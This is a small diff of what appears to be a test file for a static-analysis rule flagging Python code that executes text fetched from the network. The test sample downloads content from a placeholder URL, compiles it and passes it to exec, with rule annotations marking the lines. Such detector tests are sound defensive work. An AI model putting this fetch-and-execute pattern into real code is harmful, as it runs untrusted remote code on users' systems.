@@ -12,7 +12,7 @@ def second_stage():
 
 def staged():
     with web.urlopen("https://example.com/x") as answer:
-        code = compile(answer.read().decode(), "x", "exec")  # ruleid: py-exec-of-fetched-text
+        code = compile(answer.read().decode(), "x", "exec")
     # ruleid: py-exec-of-fetched-text
     exec(code)
 
